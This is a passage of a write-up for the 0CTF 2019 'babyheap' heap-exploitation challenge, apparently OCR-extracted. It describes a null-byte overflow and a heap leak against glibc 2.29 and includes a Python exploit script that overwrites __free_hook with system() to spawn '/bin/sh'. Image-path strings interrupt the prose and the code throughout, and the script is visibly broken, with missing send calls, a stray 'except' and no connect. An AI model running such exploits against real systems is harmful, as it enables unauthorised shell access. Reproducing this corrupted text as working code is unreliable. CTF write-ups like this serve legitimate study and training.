0CTF 2019: "babyheap" writeup

This is one more challenge from the “heap exploitation puzzle franchise”. Like many times before you can almost directly interact with the heap. Typical for 0CTF, allocations were tracked on a mmapped page at an entirely random address. Together with the address, the size of the allocation is stored as well. There can be at most 16 allocations at a time. You can update, view and delete these allocations, and as long as you are within the 16-allocation limit, you can also create new allocations.


In this challenge there are two vulnerabilities. First, allocations are created with malloc and not immediately initialized, so that when viewed directly after allocation, you recieve the old content. Second, when updating you can onlyprovide bytes up to the size you specified when allocating the chunk, but a null byte is always added. This results in the infamous null byte overflow.

How to hack

In the libc version (2.29) used in this task, a consistency check was added. It makes sure that when a chunk is consolidated backwards, the size of the previous chunk matches the value ofprev_size. With this check, the usual “forgotten chunk” technique cannot be used directly. As a recap, you would create a situation where youwould have a free chunk, followed by two used ones. Then you would overflow from the second into the third chunk, clear the prev_in_use bit and set the prev_size to the size of the first two chunks combined. When the third chunk is subsequently freed, it will consolidate backwards and swallow the chunk in the middle. The problem here is that, without modifying the header of the first chunk, the size == prev_size check added in this libc version would fail. To circumvent it, we have to create a fake chunk header, but that adds the complexity of faking a doubly-linked list structure. The simplest doubly-linked list we can create has the forward and backwards pointer of the chunk point to itself. For this we have to know the address of the heap. We utilize the first vulnerability and the linked list of tcaches to achieve this. Chunks are only consolidated backwards when they are regularly freed, but libc 2.29 uses tcaches which form a cache of seven entries per size which are held back from the backend allocator. These seven chunks are stored in a singly-linked list with the pointer being stored inline. As we have to saturate this list in order to get chunks actually freed, we can allocate one chunk, get a cached one, and because of vulnerability one, we can leak the heap address from that. Now we can finally build our fake chunk, and use it in place of the first chunk from the “forgotten chunk” technique. Now two allocations overlap and we are granted fullaccess over the heap management structures stored inline. We abuse the tcache free list to allocate a chunk within the libc and overwrite the __free_hook.


#!/usr/bin/env python3

import re
import socket
import struct
import sys
import telnetlib

libc_free_hook = 0x1e75a8
libc_arena = 0x1e4f90
libc_system = 0x52fd0

def recv_until(sock, delim):tmp = b''
    while delim not in tmp:
            r = sock.recv(1)
            if not r:
                return tmp
            tmp += r
        except InterruptedError:
    return tmp

def add(s, l):
    recv_until(s, b"Size: ")
    line = recv_until(s, b"\n").decode()
    m = re.match("Chunk ([0-9]+) Allocated", line)
    return int(m.groups(1)[0])

def update(s, i, d):
    s.send("2\n{:d}\n{:d}\n".format(i, len(d)).encode())
    recv_until(s, b"Content: ")

def delete(s, i):
    recv_until(s, b"Index")

def view(s, i):
    recv_until(s, b"Index: ")
    st = b"1. Allocate"
    recv_until(s, "Chunk[{:d}]: ".format(i).encode())
    return recv_until(s, st)[:-len(st)-1]

tar = ("localhost", 1337)

if len(sys.argv) == 3:
    tar = (sys.argv[1], int(sys.argv[2]))

with socket.socket() as s:
    add(s, 0xf8) # 0
    add(s, 0xf8) # 1
    add(s, 0xf8) # 2
    delete(s, 1)
    delete(s, 0)
    add(s, 0xf8) # 0
    heap = int.from_bytes(view(s, 0), "little") - 0x260 - 0x100
    print("[+] heap @ {:#x}".format(heap))

    add(s, 0xf8) # 1
    for i in range(10): # 3 - 13
        add(s, 0xf8)

    # fill tchache free list
    for i in range(7): # 5 - 11
        delete(s, 5 + i)

    # combine chunks 0, 1
    delete(s, 1)
    delete(s, 0)
    # allocate itadd(s, 0x1f8) # 0
    # write fake chunk
    update(s, 0, b"SPARTA".ljust(0xf8, b"A") + struct.pack("<QQQ", 0x201, heap + 0x350, heap + 0x350))
    # clear prev_in_use and set prev_size
    update(s, 2, b"sparta".ljust(0xf0, b"a") + struct.pack("<Q", 0x200))
    # forgotten chunk
    delete(s, 3)

    # drain tcaches
    tmp = [add(s, 0xf8) for i in range(7)]
    # alloc forgotten chunk (the upper chunk of the combined ones is in itsplace -> libc leak)
    low = add(s, 0xf8)
    libc = int.from_bytes(view(s, low), "little") - libc_arena
    print("[+] libc @ {:#x}".format(libc))

    # generic tcache __free_hook pwn
    dbl = add(s, 0xf8)
    delete(s, low)
    delete(s, dbl)
    update(s, 2, struct.pack("<Q", libc +libc_free_hook)[:-1])
    tmp = add(s, 0xf8)
    hook = add(s, 0xf8)
    update(s, hook, struct.pack("<Q", libc + libc_system))
    update(s, tmp, b"/bin/sh")
    delete(s, tmp)

    print("$")
    t = telnetlib.Telnet()
    t.sock = s